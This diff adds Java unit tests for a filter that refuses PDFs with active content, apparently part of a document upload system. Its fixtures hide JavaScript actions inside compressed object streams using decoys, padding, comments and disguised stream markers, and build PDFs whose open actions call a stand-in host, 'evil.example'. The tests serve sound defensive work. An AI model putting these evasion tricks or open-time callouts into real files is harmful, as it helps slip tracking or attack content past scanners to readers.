@@ -101,6 +101,42 @@ class ActiveFilesTests {
     }
 
     @Test
+    void whatIsPackedIsFoundWhateverTheFileCallsItAndWhateverStandsBefore() {
+        var active = packed(bytes("9 0 << /S /JavaScript >>"));
+        var decoy = packed(bytes("9 0 << >>"));
+        var how = "/N 1 /First 4 /Filter /FlateDecode";
+        for (var hidden : List.of(
+                pdf(joined(
+                        bytes("<< /X <<" + OBJECTS + " /X (stream\n"),
+                        decoy,
+                        bytes("\nendstream) >> >>"),
+                        stream(how, active))),
+                pdf(stream(OBJECTS, decoy), stream(how, active)),
+                pdf(stream("/Type 5 0 R " + how, active)),
+                pdf(stream(how, packed(bytes(" ".repeat(2_000) + "9 0 << /S /JavaScript >>")))),
+                pdf(stream(how, packed(bytes("%\n9%\n0 << /S /JavaScript >>")))),
+                pdf(joined(bytes("<< " + how + " >>\nstream quietly\r\n"), active, bytes("\nendstream"))))) {
+            refused(hidden).hasMessage("papers.refused.pdf.active");
+        }
+    }
+
+    @Test
+    void aPdfThatCallsAPageOfTheWebWhenItIsOpenedIsRefused() {
+        var calls = "<< /S /URI /URI (https://evil.example/who) >>";
+        for (var active : List.of(
+                pdf("<< /OpenAction " + calls + " >>"),
+                pdf(bytes("<< /OpenAction 7 0 R >>"), bytes(calls)),
+                pdf("<< /Type /Page /AA << /O " + calls + " >> >>"),
+                pdf(bytes("<< /Type /Page /#41A 7 0 R >>"), bytes(calls)))) {
+            refused(active).hasMessage("papers.refused.pdf.active");
+        }
+        refused(pdf(joined(bytes("<< /OpenAction 9 0 R >>"), stream(OBJECTS, packed(bytes("9 0 " + calls))))))
+                .hasMessage("papers.refused.pdf.active");
+        var link = pdf("<< /OpenAction [3 0 R /XYZ null null 0] /Annots [<< /A " + calls + " >>] >>");
+        assertThat(kept(link)).isEqualTo(link);
+    }
+
+    @Test
     void aPdfThatIsSomethingElseTooOrNotWholeIsRefused() {
         var quiet = pdf("<< /A 1 >>");
         for (var other : List.of(
